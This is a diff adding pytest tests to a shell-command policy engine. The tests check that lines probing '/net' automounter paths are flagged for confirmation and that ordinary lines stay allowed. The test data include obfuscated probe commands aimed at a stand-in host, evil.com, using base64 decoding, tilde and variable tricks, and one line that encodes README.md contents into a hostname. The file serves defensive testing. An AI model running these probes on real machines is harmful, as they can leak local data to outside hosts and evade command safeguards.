@@ -6,6 +6,7 @@ Authentication`, JSON flags, `test`'s string operands, a probe's name as an argu
 
 from __future__ import annotations
 
+import os
 from pathlib import Path
 
 import pytest
@@ -13,6 +14,7 @@ from realrun import copy_workspace, env_beside
 
 from policylang import Verdict
 from policylang.decision import Decision
+from policylang.engine import paths
 from policylang.engine.policy import load_policy
 
 
@@ -116,3 +118,186 @@ def test_dx8_dx9_ordinary_values_stay_allowed(tmp_path: Path, value: str) -> Non
     env = env_beside(tmp_path, V=value)
     decision = decide("echo $V", workspace, env)
     assert decision.verdict is Verdict.ALLOW, (value, decision.explain())
+
+
+# -- DX1: the automounter probes -------------------------------------------------------------
+
+
+@pytest.fixture
+def automounts(monkeypatch: pytest.MonkeyPatch) -> None:
+    """As on macOS (or with autofs's `-hosts` map): `/net` is there, and `cd /net` enters
+    it (this machine has neither)."""
+    real_isdir = os.path.isdir
+    monkeypatch.setattr(paths, "_AUTOMOUNTS", [True])
+    monkeypatch.setattr(
+        paths, "_enterable", lambda folder: folder in ("/net", "/hosts") or real_isdir(folder)
+    )
+
+
+def _up(workspace: Path) -> str:
+    """`../` as many times as it takes from `workspace` to `/`."""
+    return "../" * (len(workspace.parts) - 1)
+
+
+# lines that look a word up where its value, or the working directory, is not known and may
+# be `/net/HOST`: they ask where an automounter is (`paths.automounts_here`)
+_MAYBE_PROBES = [
+    'cd "$X"; test -e evil.com',
+    "cd $(printf /ne)t; realpath evil.com",
+    "cd ${PWD%%/work*}/net; test -e x.com",
+    'cd "`printf /net`"; test -e x.com',
+    "for d in /net; do cd $d; done; test -e evil.com",
+    "test -e ~-/x.com",
+    "test -e ~1/evil.com",
+    "test -e ~+1/evil.com",
+    "test -e ~-2/evil.com",
+    "test -e ${PWD:0:1}net/evil.com",
+    "test -e $(printf /ne)t/evil.com",
+    "test -e $(printf /net)/evil.com",
+    "test -e `printf /net`/evil.com",
+    "test -e ${x:-/net}/evil.com",
+    "test -e ${x-/ne}t/evil.com",
+    "test -e $x/e.com",
+    'test -e "$x"',
+    "realpath $(echo L25ldC9ldmlsLmNvbQ== | base64 -d)",
+    'test -e ${HOME%/*}/../../../ne""t/evil.com',
+    "test -e ~root/../ne''t/x",
+    "test -e ~nobody/../ne''t/x",
+    "realpath ~root/../ne''t/x",
+    'test -d "$(printf /ne)t/$(head -c 5 README.md | base32 | tr -d =).evil.com"',
+    "test -e foo/$(printf ../../../../../../../../../net)/evil.com",
+    "test -e /$(printf net)/evil.com",
+    "df $x",
+    "command -v $x/y",
+    "echo /*/evil.com",
+    "echo $x/*",
+    "ls -d /ne?/evil.com",
+    'for d in "$X"/*; do :; done',
+]
+
+
+@pytest.mark.source
+@pytest.mark.parametrize("line", _MAYBE_PROBES)
+def test_dx1_probes_of_words_not_known_ask_where_an_automounter_is(
+    tmp_path: Path, automounts: None, line: str
+) -> None:
+    workspace = copy_workspace(tmp_path)
+    decision = decide(line, workspace, env_beside(tmp_path))
+    assert decision.verdict is Verdict.ASK, (line, decision.explain())
+    assert "engine.automount" in decision.explain(), decision.explain()
+
+
+@pytest.mark.source
+@pytest.mark.parametrize(
+    ("line", "env"),
+    [("cd net; test -e x.com", {"CDPATH": "/"}),
+     ("pushd net; realpath x.com", {"CDPATH": "/"}),
+     ("cd -; test -e x.com", {"OLDPWD": "/net"}),
+     ("cd ~-; test -e x.com", {"OLDPWD": "/net"}),
+     ("cd -", {"OLDPWD": "/net/evil.com"}),
+     ("cd ~-", {"OLDPWD": "/net/evil.com"}),
+     ("test -e ~-/evil.com", {"OLDPWD": "/net"})],
+)  # fmt: skip
+def test_dx1_cdpath_and_oldpwd_from_the_environment(
+    tmp_path: Path, automounts: None, line: str, env: dict[str, str]
+) -> None:
+    workspace = copy_workspace(tmp_path)
+    decision = decide(line, workspace, env_beside(tmp_path, **env))
+    assert decision.verdict is Verdict.ASK, (line, decision.explain())
+
+
+# lines that look up a word that leads below `/net`: they ask everywhere
+_SURE_PROBES = [
+    "cd /net; test -e ~+/evil.com",
+    "cd /net; cd /tmp; test -e ~-/evil.com",
+    'cd /net; cd /tmp; test -e "$OLDPWD"/evil.com',
+    "pushd /net; pushd /tmp; test -e ~1/evil.com",
+    "pushd /net; pushd /tmp; test -e ~+1/evil.com",
+    "cd /net; df evil.com",
+    "cd /net; command -v ./evil.com/x",
+    "cd /net; type ./evil.com/x",
+    "cd /net; which ./evil.com/x",
+    "cd /net; echo evil.com/*",
+    "cd /net; : evil.com/*",
+    "cd /net; for f in evil.com/*; do :; done",
+]
+
+
+@pytest.mark.source
+@pytest.mark.parametrize("line", _SURE_PROBES)
+def test_dx1_probes_below_net_ask(tmp_path: Path, automounts: None, line: str) -> None:
+    workspace = copy_workspace(tmp_path)
+    decision = decide(line, workspace, env_beside(tmp_path))
+    assert decision.verdict is Verdict.ASK, (line, decision.explain())
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["df UP/net/x", "command -v UP/net/evil.com/x", "type UP/net/evil.com/x",
+     "which UP/net/evil.com/x", "echo UP/net/evil.com/*", "true UP/net/evil.com/*",
+     "for f in UP/net/evil.com/*; do :; done"],
+)  # fmt: skip
+def test_dx1_probes_below_net_ask_without_an_automounter(tmp_path: Path, line: str) -> None:
+    workspace = copy_workspace(tmp_path)
+    line = line.replace("UP/", _up(workspace))
+    decision = decide(line, workspace, env_beside(tmp_path))
+    assert decision.verdict is Verdict.ASK, (line, decision.explain())
+    assert "engine.automount" in decision.explain(), decision.explain()
+
+
+# ordinary lines: allowed with an automounter too
+_ORDINARY = [
+    'for f in *.txt; do test -e "$f"; done',
+    "for f in cfg/*; do [ -f \"$f\" ] && echo \"$f\"; done",
+    "test -e ./cfg/tasks.json",
+    '[ -n "$x" ]',
+    '[ -z "$x" ] || echo set',
+    '[ "$a" = "$b" ]',
+    "[[ $a == b* ]]",
+    "echo *.json cfg/*",
+    "ls cfg/*",
+    "command -v git",
+    "type -t ls",
+    "which python3",
+    "df -h .",
+    "test -d cfg && cd cfg && test -e tasks.json",
+    "cd cfg; test -e ~+/tasks.json",
+]
+
+
+@pytest.mark.source
+@pytest.mark.parametrize("line", _ORDINARY)
+def test_dx1_ordinary_lines_stay_allowed_with_an_automounter(
+    tmp_path: Path, automounts: None, line: str
+) -> None:
+    workspace = copy_workspace(tmp_path)
+    decision = decide(line, workspace, env_beside(tmp_path))
+    assert decision.verdict is Verdict.ALLOW, (line, decision.explain())
+
+
+@pytest.mark.parametrize(
+    "line",
+    [*_ORDINARY, 'test -e "$x"', 'cd "$X"; test -e evil.com', "test -e $(printf /ne)t/x"],
+)
+def test_dx1_words_not_known_stay_allowed_without_an_automounter(tmp_path: Path, line: str) -> None:
+    workspace = copy_workspace(tmp_path)
+    decision = decide(line, workspace, env_beside(tmp_path))
+    assert decision.verdict is Verdict.ALLOW, (line, decision.explain())
+
+
+# -- DX9: `test`'s strings and a probe's name as an argument are not looked up ---------------
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["[[ $p == */net/* ]]", 'cd /; [ "$x" = net/foo ]', 'cd /; test "$x" = net/foo',
+     "cd /; [[ $x = net/foo ]]", '[ "$x" = UP/net/y ]', "cd /; test -z net/x",
+     'cd /; test -n "net/x"', "cd /; ls -I net/x", "echo test UP/net/x",
+     '[ "$p" = /net ]', "[[ $p =~ ^/net/ ]]", '[[ "$p" != UP/net/x ]]',
+     "printf '%s\\n' stat UP/net/x", "git commit -m 'test UP/net/x'"],
+)  # fmt: skip
+def test_dx9_strings_are_not_looked_up(tmp_path: Path, line: str) -> None:
+    workspace = copy_workspace(tmp_path)
+    line = line.replace("UP/", _up(workspace))
+    decision = decide(line, workspace, env_beside(tmp_path))
+    assert "engine.automount" not in decision.explain(), (line, decision.explain())
